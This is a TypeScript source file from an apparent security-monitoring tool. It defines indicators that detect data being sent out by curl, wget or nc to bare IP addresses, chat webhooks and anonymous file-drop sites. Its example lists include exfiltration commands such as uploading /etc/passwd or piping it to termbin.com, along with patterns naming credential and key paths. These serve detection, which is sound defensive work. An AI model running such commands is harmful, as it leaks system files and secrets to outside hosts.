import type { CommandLine } from "#alert/command-line.ts";
import { classifyAddress, isInside } from "#alert/network.ts";
import type { Indicator } from "../../indicator.ts";
import type { Call, Verdict } from "../execution/calls.ts";
import { argumentText, calls, findPipe, hasWord } from "../execution/calls.ts";
import { inContainer, ran } from "../execution/examples.ts";
import { needles } from "../execution/needles.ts";
import { behind } from "../gates.ts";
import { exfiltration, isSink } from "./data-ways.ts";

/** Sending files to web servers and services. */

const senders = new Set(["curl", "wget", "http", "https", "xh", "wget2"]);

const webTalkers = new Set([...senders, "python", "python3", "node", "perl", "ruby", "php", "openssl", "nc"]);

const hooks = [
  "discord.com/api/webhooks",
  "discordapp.com/api/webhooks",
  "api.telegram.org/bot",
  "hooks.slack.com/",
  "slack.com/api/files.upload",
  "webhook.office.com",
  "api.pushover.net",
  "api.pushcut.io",
  "maker.ifttt.com",
  "ntfy.sh/",
];

const drops = [
  "transfer.sh",
  "file.io",
  "0x0.st",
  "termbin.com",
  "ix.io",
  "sprunge.us",
  "paste.rs",
  "pastebin.com/api",
  "bashupload.com",
  "temp.sh",
  "oshi.at",
  "gofile.io",
  "anonfiles",
  "catbox.moe",
  "tmpfiles.org",
  "store1.gofile",
  "filebin.net",
  "send.vis.ee",
  "wetransfer.com",
  "uguu.se",
  "api.anonfiles",
  "dpaste",
  "hastebin",
  "paste.ee",
  "rentry.co",
  "ufile.io",
  "mega.nz",
  "api.github.com/gists",
];

const hookName = needles(hooks);

const dropName = needles(drops);

const talkerCall = calls(webTalkers);

const dropCall = calls(
  senders,
  (call) => uploadOf(call) !== false || hasWord(call, "-d", "--data", "--data-binary", "-T", "-F", "--upload-file"),
);

export const uploadsFile: Indicator = {
  ...exfiltration,
  id: "uploads-file",
  behaviour: "sends a file to a web server by hand",
  meaning: "What was collected leaves the machine by an ordinary web request.",
  technique: "T1048",
  alsoTechniques: ["T1041", "T1567"],
  severity: "high",
  certainty: "weak",
  source: "https://attack.mitre.org/techniques/T1048/",
  match: calls(senders, (call) => uploadOf(call)),
  examples: {
    found: [
      ran("curl -T /tmp/db.tgz http://203.0.113.9/up", inContainer),
      ran("curl -F file=@/etc/passwd https://files.example.net/"),
      ran("curl -X POST --data-binary @/tmp/x https://203.0.113.9"),
      ran("wget --post-file=/tmp/x http://203.0.113.9/"),
    ],
    ignored: [
      ran("curl -X POST -d {} http://localhost:9200/_refresh"),
      ran("curl -d name=x https://example.com"),
      ran("curl -F json=1 https://example.com"),
      ran("curl --data-binary @q.json http://127.0.0.1:9200/_bulk"),
    ],
  },
};

export const uploadsCollectedFile: Indicator = {
  ...exfiltration,
  id: "uploads-collected-file",
  behaviour: "sends a file to a bare address, or sends a file of accounts, keys or collected data",
  meaning: "Services have names and take their own kind of files; this looks like loot on its way out.",
  technique: "T1048",
  alsoTechniques: ["T1048.003", "T1041"],
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1048/",
  match: calls(senders, (call) => uploadOf(call) !== false && call.args.some(({ value }) => isLoot(value))),
  examples: {
    found: [
      ran("curl -T /tmp/db.tgz http://203.0.113.9/up", inContainer),
      ran("curl -F file=@/etc/passwd https://files.example.net/"),
      ran("wget --post-file=/tmp/x http://203.0.113.9/"),
    ],
    ignored: [
      ran("curl -F file=@report.xml https://ci.example.com/upload"),
      ran("curl -T app.jar http://10.0.0.7/repo/"),
      ran("curl -d name=x http://203.0.113.9/"),
    ],
  },
};

export const sendsToWebhook: Indicator = {
  ...exfiltration,
  id: "sends-to-webhook",
  behaviour: "sends data to a chat service or webhook",
  meaning: "The traffic looks like that of any office, and nobody has to run a server to receive it.",
  technique: "T1567.004",
  alsoTechniques: ["T1102"],
  severity: "high",
  certainty: "weak",
  source: "https://attack.mitre.org/techniques/T1567/004/",
  match: behind(hookName.gate, (facts) => (talkerCall(facts) === null ? null : hookName(facts))),
  examples: {
    found: [
      ran("curl -d content=x https://discord.com/api/webhooks/1/abc", inContainer),
      ran("curl -F document=@/tmp/x https://api.telegram.org/bot1:x/sendDocument"),
    ],
    ignored: [ran("cat hooks.slack.com/readme"), ran("curl https://example.com/api/webhooks")],
  },
};

export const sendsToDropSite: Indicator = {
  ...exfiltration,
  id: "sends-to-drop-site",
  behaviour: "sends data to a site where anybody can leave files",
  meaning: "The data lies where its taker can fetch it without a trace that leads to a name.",
  technique: "T1567",
  alsoTechniques: ["T1567.002", "T1567.003"],
  severity: "high",
  certainty: "likely",
  source: "https://attack.mitre.org/techniques/T1567/",
  match: behind(dropName.gate, (facts) =>
    dropCall(facts) === null && !pipesOut(facts.process.command) ? null : dropName(facts),
  ),
  examples: {
    found: [
      ran("curl --upload-file /tmp/a.tgz https://transfer.sh/a.tgz", inContainer),
      ran("sh -c cat /etc/passwd | nc termbin.com 9999"),
      ran("curl -F file=@x https://0x0.st"),
    ],
    ignored: [ran("curl -O https://transfer.sh/abc/a.tgz"), ran("cat file.io.txt")],
  },
};

/** An option that sends a file: `-T x`, `-F name=@x`, `--data-binary @x`; what goes to this machine itself does not count. */
function uploadOf(call: Call): Verdict {
  if (/(?:\/\/|@|\s)(?:localhost|127\.|\[::1\])/.test(` ${argumentText(call)}`)) return false;
  return call.args.some(({ value }, index) => sendsFile(value, call.args[index + 1]?.value ?? ""));
}

function sendsFile(option: string, next: string): boolean {
  if (/^(?:-T|--upload-file|--post-file|--body-file)/.test(option)) return true;
  if (/^(?:-F[^=]{1,80}=@|-d@|--data(?:-binary)?=@)/.test(option)) return true;
  if (option === "-F" || option === "--form") return /^[^=]{1,80}=[@<]/.test(next);
  return /^(?:-d|--data(?:-binary|-raw|-ascii|-urlencode)?)$/.test(option) && /^(?:@|[^=]{1,80}@\/)/.test(next);
}

function pipesOut(line: CommandLine): boolean {
  return findPipe(line, () => true, isSink) !== null;
}

/** A bare public address, or a path at which accounts, keys and collected data lie. */
function isLoot(value: string): boolean {
  const address = /^(?:https?|ftp):\/\/(?:[^\s/@]{1,60}@)?(\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?(?:\/|$)/.exec(
    value,
  )?.[1];
  if (address !== undefined) return !isInside(classifyAddress(address));
  return /(?:^|[@=])(?:\/etc\/(?:passwd|shadow|kubernetes|ssh)|\/root\/|\/proc\/|\/var\/run\/secrets|\/run\/secrets)|\.ssh\/|\.aws\/|\.kube\/|id_(?:rsa|ed25519)|(?:^|[@=])(?:\/tmp|\/var\/tmp|\/dev\/shm)\/[\w./-]{1,120}\.(?:tar|tgz|tar\.gz|zip|7z|sql|gz|b64|enc|dump)$/.test(
    value,
  );
}
